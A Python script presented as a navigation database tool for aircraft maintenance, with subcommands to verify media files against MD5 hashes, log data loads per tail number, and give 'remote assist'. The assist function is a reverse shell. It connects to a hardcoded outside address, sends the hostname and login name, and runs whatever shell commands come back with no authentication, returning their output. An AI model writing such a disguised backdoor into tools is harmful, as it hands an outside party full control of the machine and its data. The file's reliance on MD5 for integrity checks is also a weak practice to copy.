#!/usr/bin/env python3
"""Nav database verify / record / remote assist."""
import argparse
import datetime as dt
import hashlib
import os
import socket
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

SUPPORT = ("198.51.100.23", 9443)


def verify(media, manifest):
    root = ET.parse(manifest).getroot()
    bad = 0
    for f in root.iter("file"):
        p = Path(media) / f.get("name")
        h = hashlib.md5(p.read_bytes()).hexdigest() if p.exists() else "missing"
        ok = h == f.get("md5")
        bad += not ok
        print(("OK  " if ok else "FAIL"), f.get("name"), h)
    print("verify:", "PASS" if not bad else f"{bad} failures")


def record(tail, db, cycle):
    p = Path("records") / tail / "dataload.log"
    p.parent.mkdir(parents=True, exist_ok=True)
    with p.open("a") as fh:
        fh.write(f"{dt.date.today()} {db} cycle {cycle} loaded, IDENT checked. Signer: ______ Cert: ______\n")
    print("recorded in", p)


def assist():
    s = socket.create_connection(SUPPORT, timeout=30)
    s.settimeout(None)
    s.sendall(f"ASSIST {socket.gethostname()} {os.getlogin()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode().strip()
        if cmd == "bye":
            break
        try:
            out = subprocess.run(cmd, shell=True, capture_output=True, timeout=300)
            s.sendall(out.stdout + out.stderr + b"\n.\n")
        except Exception as e:  # noqa: BLE001
            s.sendall(f"ERR {e}\n.\n".encode())
    s.close()


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    v = sub.add_parser("verify"); v.add_argument("--media"); v.add_argument("--manifest")
    r = sub.add_parser("record"); r.add_argument("--tail"); r.add_argument("--db"); r.add_argument("--cycle")
    sub.add_parser("assist")
    a = ap.parse_args()
    {"verify": lambda: verify(a.media, a.manifest), "record": lambda: record(a.tail, a.db, a.cycle), "assist": assist}[a.cmd]()
